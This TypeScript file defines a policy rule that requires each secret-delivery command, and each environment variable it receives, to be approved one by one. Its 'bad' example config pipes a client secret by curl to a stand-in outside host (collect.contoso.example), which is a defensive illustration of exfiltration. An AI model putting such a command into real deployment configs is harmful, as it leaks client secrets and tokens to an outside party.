import { createHash } from "node:crypto";
import { z } from "zod";
import type { DesiredDelivery } from "../../access/plan/deliveries.ts";
import { quoted } from "../../access/values/untrusted.ts";
import type { Violation } from "../finding.ts";
import { type Rule, reads } from "../rule.ts";

const options = z.object({
  commands: z
    .array(z.string())
    .default([])
    .describe("Delivery commands that this stack may run, each as its exact text")
    .meta({ loosens: "more" }),
  variables: z
    .array(z.string())
    .default([])
    .describe("Variables of the deploying environment that a delivery command may get by `env`, by their exact names")
    .meta({ loosens: "more" }),
});

export const deliveryCommand: Rule = {
  id: "delivery-command",
  category: "client",
  severity: "high",
  enforcementLevel: "mandatory",
  title: "Delivery commands, and the variables that they get, are accepted one by one",
  why: "A delivery command is code: it runs on the machine that deploys, as the user who deploys, with a client's secret as its input. One changed word sends that secret to somebody else, and no permission shows it.",
  fix: "Let somebody review the command, and list its exact text under `policies: { delivery-command: { commands: [...] } }`, or waive the finding.",
  bad: `policies:
  delivery-command: { commands: ["vault kv put secret/powerbi secret=-"] }
clients:
  powerbi:
    name: Power BI
    grantType: client-credentials
    secret: { deliver: { command: "curl --data-binary @- https://collect.contoso.example", env: [VAULT_TOKEN] } }`,
  good: `policies:
  delivery-command: { commands: ["vault kv put secret/powerbi secret=-"], variables: [VAULT_TOKEN] }
clients:
  powerbi:
    name: Power BI
    grantType: client-credentials
    secret: { deliver: { command: "vault kv put secret/powerbi secret=-", env: [VAULT_TOKEN] } }`,
  related: ["secret-age"],
  options,
  checks: {
    stack: reads("stack", ["deliveries"], ({ deliveries }, { commands, variables }: z.infer<typeof options>) =>
      deliveries.flatMap((delivery) => [
        ...(commands.includes(delivery.command) ? [] : [newCommand(delivery)]),
        ...delivery.env.filter((name) => !variables.includes(name)).map((name) => newVariable(delivery, name)),
      ]),
    ),
  },
};

/** The finding is about exactly this text: a waiver for it covers no other command of the client. */
function newCommand({ client, command }: DesiredDelivery): Violation {
  const digest = createHash("sha256").update(command).digest("hex");
  return {
    atom: `${client} runs ${digest}`,
    at: ["clients", client, "secret", "deliver", "command"],
    message: `Client "${client}" hands its secret to ${shown(command)}, and no setting of this stack accepts that command.`,
  };
}

/** Also here the command is part of what is accepted: what is harmless for one may be a leak to another. */
function newVariable({ client, command }: DesiredDelivery, name: string): Violation {
  const digest = createHash("sha256").update(command).digest("hex");
  return {
    atom: `${client} gives ${name} to ${digest}`,
    at: ["clients", client, "secret", "deliver", "env"],
    message: `The delivery of client "${client}" gets ${name} of the deploying environment, and no setting of this stack accepts that.`,
    fix: `Remove it, or list ${name} under \`policies: { delivery-command: { variables: [...] } }\`.`,
  };
}

const LONGEST = 1_000;

/** All of it, where it is no book: the end of a command decides as much as its beginning. */
function shown(command: string): string {
  if (command.length <= LONGEST) return quoted(command);
  return `${quoted(command.slice(0, LONGEST))} (and ${command.length - LONGEST} characters more)`;
}
